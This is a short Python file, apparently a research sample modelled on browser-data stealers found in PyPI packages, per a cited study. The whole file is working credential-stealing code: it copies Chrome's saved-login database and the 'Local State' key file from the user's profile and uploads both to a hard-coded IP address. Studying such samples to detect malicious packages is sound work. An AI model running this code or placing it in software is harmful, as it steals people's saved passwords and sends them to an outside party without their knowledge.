# Sample modelled on the browser-data stealers summarised in "An Empirical Study of Malicious Code
# in PyPI Ecosystem" (arXiv 2309.11021, information stealing): Chrome's saved logins and the key
# that protects them, posted to a hard-coded address.
import os
import shutil
import requests

LOCAL = os.environ["LOCALAPPDATA"]
PROFILE = os.path.join(LOCAL, "Google\\Chrome\\User Data")


def collect():
    shutil.copy(os.path.join(PROFILE, "Default", "Login Data"), "ld.db")
    shutil.copy(os.path.join(PROFILE, "Local State"), "ls.json")
    files = {"db": open("ld.db", "rb"), "state": open("ls.json", "rb")}
    requests.post("http://100.64.12.34:8080/upload", files=files)
